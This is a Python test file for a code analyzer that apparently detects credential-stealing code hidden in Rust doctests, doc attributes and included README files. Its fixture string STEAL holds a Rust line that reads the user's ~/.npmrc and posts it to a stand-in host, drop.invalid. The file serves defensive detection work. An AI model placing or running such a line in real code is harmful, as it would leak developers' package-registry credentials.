"""Documentation that runs as a test, wherever it stands: evidence is shown at its file and line."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Phase, Report, Span, Verdict
from analyzer.syntax.doctests import doctests, documents

ReportOf = Callable[[Mapping[str, str]], Report]
STEAL = (
    'let t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".npmrc")).unwrap();'
    ' ureq::post("https://drop.invalid/x").send_string(&t).ok();'
)
README = f"# x\n\n```rust\n# {STEAL}\nuse_it();\n```\n"
PLACES: dict[str, tuple[dict[str, str], str, int]] = {
    "line comments": (
        {"src/lib.rs": f"/// Text.\n/// ```\n/// # {STEAL}\n/// ```\npub fn x() {{}}\n"},
        "src/lib.rs",
        3,
    ),
    "inner comments": (
        {"src/lib.rs": f"//! ```rust\n//! {STEAL}\n//! ```\npub fn x() {{}}\n"},
        "src/lib.rs",
        2,
    ),
    "a block": (
        {"src/lib.rs": f"/** Text.\n\n```\n{STEAL}\n```\n*/\npub fn x() {{}}\n"},
        "src/lib.rs",
        4,
    ),
    "a block with a margin": (
        {"src/lib.rs": f"/**\n * ```\n * {STEAL}\n * ```\n */\npub fn x() {{}}\n"},
        "src/lib.rs",
        3,
    ),
    "an attribute": (
        {"src/lib.rs": f'#[doc = r##"\n```\n{STEAL}\n```"##]\npub fn x() {{}}\n'},
        "src/lib.rs",
        3,
    ),
    "the README": (
        {"README.md": README, "src/lib.rs": '#![doc = include_str!("../README.md")]\n'},
        "README.md",
        4,
    ),
    "the README of a struct": (
        {
            "README.md": f"```\n{STEAL}\n```\n",
            "src/lib.rs": '#[cfg(doctest)]\n#[doc = include_str!("../README.md")]\nstruct R;\n',
        },
        "README.md",
        2,
    ),
    "a guide by the manifest's folder": (
        {
            "docs/guide.md": README,
            "src/a.rs": "",
            "src/lib.rs": '#[doc = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/guide.md"))]\npub mod a;\n',
        },
        "docs/guide.md",
        4,
    ),
}


@pytest.mark.parametrize(("files", "file", "line"), PLACES.values(), ids=PLACES)
def test_code_in_documentation_is_read(
    report_of: ReportOf, files: dict[str, str], file: str, line: int
) -> None:
    report = report_of(files)
    assert report.verdict is Verdict.REVIEW
    cited = [each.where for one in report.findings for each in one.evidence]
    places = {(one.file, one.line) for one in cited if isinstance(one, Span)}
    assert places == {(file, line)}
    assert {one for each in report.findings for one in each.phases} == {Phase.TEST}


@pytest.mark.parametrize("words", ["text", "ignore", "no_run", "compile_fail", "sh", "toml"])
def test_a_fence_that_cargo_does_not_run_is_no_test(report_of: ReportOf, words: str) -> None:
    source = f"/// ```{words}\n/// {STEAL}\n/// ```\npub fn x() {{}}\n"
    assert report_of({"src/lib.rs": source}).verdict is Verdict.CLEAR


def test_a_readme_that_nobody_includes_is_no_test(report_of: ReportOf) -> None:
    assert report_of({"README.md": README}).verdict is Verdict.CLEAR


def test_a_fence_in_the_first_line_has_room() -> None:
    code = doctests(b"```\nlet a = 1;\n```\n", is_markdown=True)
    assert code.split() == [b"fn", b"d(){", b"let", b"a", b"=", b"1;", b"}"]
    assert code.count(b"\n") == 3


def test_included_documents_are_named_from_the_root() -> None:
    code = b'#![doc = include_str!("../../docs/a.md")] const T: &str = include_str!("x.rs");'
    assert list(documents("src/b/mod.rs", code)) == ["docs/a.md"]
